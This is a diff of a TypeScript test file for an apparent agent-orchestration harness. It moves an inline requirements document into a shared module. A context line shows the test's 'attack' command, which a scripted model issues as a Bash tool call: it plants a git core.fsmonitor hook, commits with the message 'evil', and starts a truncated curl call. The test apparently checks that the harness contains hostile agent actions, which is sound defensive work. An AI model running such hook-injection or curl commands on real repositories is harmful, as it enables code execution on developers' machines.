@@ -6,6 +6,7 @@ import type { Answer } from '../support/model-messages.ts';
 import { scriptByTask, startModelServer } from '../support/model-server.ts';
 import type { ModelServer, Reply } from '../support/model-server.ts';
 import { waitFor } from '../support/project.ts';
+import { REQUIREMENTS } from '../support/requirements-document.ts';
 import { buildWorkerImage, docker, whySkipped } from '../support/worker-image.ts';
 
 const bash = (command: string): Answer => ({ toolUse: { name: 'Bash', input: { command, description: 'Do it' } } });
@@ -20,42 +21,6 @@ const writes = (files: Readonly<Record<string, string>>): Answer =>
       .join(''),
   );
 
-const DOCUMENT = `# login
-
-## Problem
-People cannot log in.
-
-## Users
-All.
-
-## Requirements
-| id | requirement | priority |
-|---|---|---|
-| R-001 | Log in | Must |
-| R-002 | Log out | Should |
-
-## Non-functional requirements
-| id | requirement | priority |
-|---|---|---|
-
-## In scope
-- both
-
-## Out of scope
-- sign up
-
-## Acceptance criteria
-- [ ] one can log in
-
-## Test scenarios
-| id | given | when | then |
-|---|---|---|---|
-| S-001 | a user | logs in | sees the page |
-
-## Open questions
-| id | question | priority | answer |
-|---|---|---|---|
-`;
 const task = (id: string, requirement: string, dependencies: string[] = []): object => ({
   id,
   title: `Write ${id}`,
@@ -92,7 +57,7 @@ describe.skipIf(docker.why !== '')(
       const right = graphOf(task('L-1', 'R-001'), task('L-2', 'R-002'));
       await prepare({
         'PLAN-1': [
-          writes({ 'requirements.md': DOCUMENT }),
+          writes({ 'requirements.md': REQUIREMENTS }),
           DONE,
           writes({ 'design.md': '# How', 'task-graph.json': wrong }),
           DONE,
@@ -136,10 +101,10 @@ git config core.fsmonitor 'touch /tmp/hooked'; git commit -qam evil; curl -sS ht
       await prepare({
         'PLAN-1': [
           bash(attack),
-          writes({ 'requirements.md': DOCUMENT }),
+          writes({ 'requirements.md': REQUIREMENTS }),
           DONE,
           bash(attack),
-          writes({ 'requirements.md': DOCUMENT }),
+          writes({ 'requirements.md': REQUIREMENTS }),
           DONE,
           bash(attack),
           DONE,
